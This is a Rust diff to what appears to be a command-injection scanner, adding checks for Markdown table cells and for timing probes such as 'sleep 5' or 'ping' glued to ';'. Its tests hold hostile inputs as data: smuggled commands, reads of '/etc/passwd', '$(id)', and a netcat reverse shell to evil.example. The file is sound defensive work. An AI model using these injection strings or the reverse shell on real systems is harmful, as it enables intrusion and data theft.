@@ -650,11 +650,25 @@ impl Scanner {
         if let Some(hit) = self.command_after(bytes, 0, Boundary::Start) {
             return Some(hit);
         }
+        let table_rows = markdown_table_rows(bytes);
+        let mut row = 0;
         let mut i = 0;
         while i < bytes.len() {
             let b = at(bytes, i);
             let next = at(bytes, i + 1);
             let (boundary, width) = match b {
+                // A Markdown table's `|` separates cells: each cell is read
+                // as a value of its own (`| ls | lists files |` is
+                // documentation; `| cat /etc/passwd |` still a command line).
+                b'|' if let Some(end) = table_cell_end(&table_rows, &mut row, bytes, i) => {
+                    let cell = bytes.get(i + 1..end).unwrap_or_default();
+                    if let Some(hit) = self.command_after(cell, 0, Boundary::Start) {
+                        return Some((hit.0, i + 1 + hit.1));
+                    }
+                    // The cell's own `;`, `$(` ... are read as usual.
+                    i += 1;
+                    continue;
+                }
                 b'`' if let Some(close) = markdown_code_span(bytes, i) => {
                     i = close + 1;
                     continue;
@@ -963,6 +977,9 @@ impl Scanner {
                     || obfuscated
                     || path
                     || (end && at(bytes, start.saturating_sub(1)) == b';')
+                    // A timing probe glued to `;` (`127.0.0.1;sleep 5`, `;ping
+                    // 10.0.0.1`): a number for argument, and nothing after it.
+                    || (at(bytes, start.wrapping_sub(1)) == b';' && numeric_argument(bytes, i))
             }
             // A value that *is* a command line: the arguments must look like one.
             (Boundary::Start, _) => {
@@ -983,6 +1000,74 @@ impl Scanner {
         };
         decided.then_some(("command after shell boundary", start))
     }
+}
+
+/// The lines of a value that are rows of a Markdown table, as `(start, end)`
+/// byte ranges in order: lines that open and close with `|`, in a value that
+/// has a delimiter row (`|---|:--:|`), as GitHub's tables must. Empty
+/// (no allocation) for a value with no such row.
+fn markdown_table_rows(bytes: &[u8]) -> Vec<(usize, usize)> {
+    // Two memchr passes keep most values out of the line pass.
+    if !bytes.contains(&b'|') || !bytes.contains(&b'-') {
+        return Vec::new();
+    }
+    let lines = || {
+        let mut start = 0;
+        bytes
+            .split(|b| matches!(b, b'\n' | b'\r'))
+            .map(move |line| {
+                let at = start;
+                start += line.len() + 1;
+                (at, line)
+            })
+    };
+    let trim = |line: &[u8]| -> (usize, usize) {
+        let first = line.iter().position(|b| !matches!(b, b' ' | b'\t'));
+        let last = line.iter().rposition(|b| !matches!(b, b' ' | b'\t'));
+        first.zip(last).map_or((0, 0), |(f, l)| (f, l + 1))
+    };
+    let delimiter = lines().any(|(_, line)| {
+        let (f, l) = trim(line);
+        let row = line.get(f..l).unwrap_or_default();
+        row.len() >= 3
+            && row.first() == Some(&b'|')
+            && row.contains(&b'-')
+            && row
+                .iter()
+                .all(|b| matches!(b, b'|' | b'-' | b':' | b' ' | b'\t'))
+    });
+    if !delimiter {
+        return Vec::new();
+    }
+    lines()
+        .filter_map(|(at, line)| {
+            let (f, l) = trim(line);
+            (l >= f + 2 && line.get(f) == Some(&b'|') && line.get(l - 1) == Some(&b'|'))
+                .then_some((at + f, at + l))
+        })
+        .collect()
+}
+
+/// If the `|` at `i` opens a cell of a table row, the index of the `|` that
+/// closes the cell. `row` is a cursor into `rows`, moved forward as `i` grows.
+fn table_cell_end(
+    rows: &[(usize, usize)],
+    row: &mut usize,
+    bytes: &[u8],
+    i: usize,
+) -> Option<usize> {
+    while rows.get(*row).is_some_and(|&(_, end)| end <= i) {
+        *row += 1;
+    }
+    let &(start, end) = rows.get(*row)?;
+    if i < start || i + 1 >= end {
+        return None;
+    }
+    bytes
+        .get(i + 1..end)?
+        .iter()
+        .position(|&b| b == b'|')
+        .map(|at| i + 1 + at)
 }
 
 /// A backtick that opens a Markdown code span inside prose ("run `ls -la` and
@@ -1322,6 +1407,23 @@ fn plain_argument(bytes: &[u8], i: usize) -> bool {
     }
 }
 
+/// A number or an address for the only argument (`sleep 5`, `ping 10.0.0.1`),
+/// ending the value or followed by a shell boundary: "sleep 8 hours" is prose.
+fn numeric_argument(bytes: &[u8], i: usize) -> bool {
+    if !matches!(at(bytes, i), b' ' | b'\t' | b'+') {
+        return false;
+    }
+    let mut j = i;
+    while matches!(at(bytes, j), b' ' | b'\t' | b'+') {
+        j += 1;
+    }
+    let digits = j;
+    while at(bytes, j).is_ascii_digit() || at(bytes, j) == b'.' {
+        j += 1;
+    }
+    j > digits && at(bytes, digits).is_ascii_digit() && arg_end(bytes, j)
+}
+
 /// The command word ends the value or is followed by another shell boundary.
 fn arg_end(bytes: &[u8], i: usize) -> bool {
     let mut j = i;
@@ -1505,8 +1607,46 @@ mod tests {
             "a&&cat config.php",
             "q=1\npython -c 'import os'",
             "q=1\nwhoami",
+            // Timing probes glued to `;`.
+            "ip=127.0.0.1;sleep 5",
+            ";sleep 5",
+            "x;sleep+10;",
+            "host=a;ping 10.0.0.1",
         ] {
             assert!(hit(attack), "{attack}");
+        }
+        for prose in [
+            "Mon-Fri;sleep 8 hours",
+            "note=tired; sleep 5",
+            "a=1;sleep=5",
+            "todo;sleep 7.5h",
+        ] {
+            assert!(!hit(prose), "{prose}");
+        }
+    }
+
+    #[test]
+    fn markdown_tables_are_documentation() {
+        for table in [
+            "| Command | What it does |\n|---|---|\n| ls | lists files |\n| cat | prints a file |",
+            "| Name | Role |\n|:----|----:|\n| who | admin |",
+            "Release notes\n\n| Tool | Version |\n|------|---------|\n| curl | 8.5 |\n| node | 20 |\n",
+            "  | Step | Result |\r\n  | --- | --- |\r\n  | ping | 12 ms |  ",
+        ] {
+            assert!(!hit(table), "{table}");
+        }
+        for attack in [
+            // A cell that is a command line, as a value of its own would be.
+            "| a | b |\n|---|---|\n| cat /etc/passwd | x |",
+            "| a |\n|---|\n| nc -e /bin/sh evil.example 4444 |",
+            // Shell syntax inside a cell, and pipes outside the table.
+            "| a |\n|---|\n| x;nc evil.example 4444 |",
+            "| a |\n|---|\n| $(id) |",
+            "| a |\n|---|\nx | ls\n",
+            // No delimiter row: not a table.
+            "| ls | cat |",
+        ] {
+            assert!(hit(attack), "{attack:?}");
         }
     }
 
